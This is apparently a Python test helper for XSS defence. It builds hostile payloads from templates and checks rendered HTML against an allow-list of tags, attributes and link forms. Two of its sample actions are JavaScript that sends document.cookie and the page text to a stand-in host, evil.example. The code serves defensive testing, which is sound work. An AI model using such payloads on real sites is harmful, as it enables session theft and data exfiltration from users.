"""What a hostile page or question could hold, and what must never reach a browser as markup."""

import re
from html.parser import HTMLParser
from pathlib import Path

_ACTIONS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "new Image().src='https://evil.example/?q='+document.body.innerText",
)
_TEMPLATES = [
    line.replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")
    for line in Path(__file__).with_suffix(".txt").read_text(encoding="utf-8").splitlines()
]
PAYLOADS = tuple(dict.fromkeys(template.replace("{}", action) for template in _TEMPLATES for action in _ACTIONS))
"""Written into pages, questions and answers."""

_ELEMENTS = frozenset(
    "a b blockquote br caption code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li ol p pre s section small "
    "span strong sub sup table tbody td tfoot th thead tr u ul".split()
)
_ATTRIBUTES = frozenset("href rel class id data-l data-n tabindex role aria-label rowspan colspan scope start".split())


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"/pages/|#|https?://", value or ""):
                self.found.append(f"<{tag} href={value}>")

    def handle_comment(self, data: str) -> None:
        self.found.append("<!-- -->")


def dangers(html: str) -> list[str]:
    """Give every element, attribute and address that is not plainly harmless."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
